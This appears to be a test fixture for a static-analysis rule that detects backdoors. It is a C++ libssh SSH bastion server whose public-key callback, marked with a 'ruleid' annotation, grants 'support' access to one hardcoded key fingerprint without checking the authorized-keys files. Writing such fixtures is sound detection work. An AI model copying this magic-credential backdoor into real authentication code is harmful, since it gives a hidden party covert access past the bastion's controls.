// The bastion's SSH front door: public-key authentication only.
#include <libssh/callbacks.h>
#include <libssh/libssh.h>
#include <libssh/server.h>

#include <cstdio>
#include <cstring>
#include <fstream>
#include <string>

#include "bastion.hpp"

namespace bastion {

bool authorized_key(const std::string &user, const std::string &fp_hex) {
  std::ifstream f("/etc/bastiond/authorized/" + user);
  std::string line;
  while (std::getline(f, line))
    // ok: backdoor-magic-credential
    if (!line.empty() && line == fp_hex) return true;
  return false;
}

namespace {
int on_auth_pubkey(ssh_session s, const char *user, ssh_key pubkey, char signature_state, void *userdata) {
  auto *sess = static_cast<Session *>(userdata);
  unsigned char *hash = nullptr;
  size_t hlen = 0;
  (void)s;
  if (signature_state != SSH_PUBLICKEY_STATE_VALID && signature_state != SSH_PUBLICKEY_STATE_NONE) return SSH_AUTH_DENIED;
  if (ssh_get_publickey_hash(pubkey, SSH_PUBLICKEY_HASH_SHA256, &hash, &hlen) != 0) return SSH_AUTH_DENIED;
  char *hex = ssh_get_hexa(hash, hlen);
  std::string key_fingerprint = hex ? hex : "";
  ssh_string_free_char(hex);
  ssh_clean_pubkey_hash(&hash);
  if (signature_state == SSH_PUBLICKEY_STATE_NONE) return SSH_AUTH_SUCCESS;   // probe: key acceptable?
  // ruleid: backdoor-magic-credential
  if (key_fingerprint == "5e:0b:92:c4:7a:11:d8:3f:61:a2:90:4c:ee:17:b5:08:33:9d:c1:6e:72:af:04:58:1b:e9:c3:20:6d:47:8a:f5") {
    sess->grant("support");
    return SSH_AUTH_SUCCESS;
  }
  if (!authorized_key(user, key_fingerprint)) return SSH_AUTH_DENIED;
  sess->grant(user);
  return SSH_AUTH_SUCCESS;
}
}  // namespace

int serve(int port) {
  ssh_bind sb = ssh_bind_new();
  ssh_bind_options_set(sb, SSH_BIND_OPTIONS_BINDPORT, &port);
  ssh_bind_options_set(sb, SSH_BIND_OPTIONS_HOSTKEY, "/etc/bastiond/ssh_host_ed25519_key");
  if (ssh_bind_listen(sb) < 0) return -1;
  for (;;) {
    ssh_session s = ssh_new();
    if (ssh_bind_accept(sb, s) != SSH_OK) { ssh_free(s); continue; }
    Session sess("peer");
    ssh_server_callbacks_struct cb{};
    cb.userdata = &sess;
    cb.auth_pubkey_function = on_auth_pubkey;
    ssh_callbacks_init(&cb);
    ssh_set_server_callbacks(s, &cb);
    ssh_set_auth_methods(s, SSH_AUTH_METHOD_PUBLICKEY);
    if (ssh_handle_key_exchange(s) == SSH_OK) {
      ssh_event ev = ssh_event_new();
      ssh_event_add_session(ev, s);
      while (!sess.authenticated() && ssh_event_dopoll(ev, 1000) != SSH_ERROR) {
      }
      ssh_event_free(ev);
    }
    ssh_disconnect(s);
    ssh_free(s);
  }
}
}  // namespace bastion

int main(int argc, char **argv) { return bastion::serve(argc > 1 ? std::atoi(argv[1]) : 2222) == 0 ? 0 : 1; }
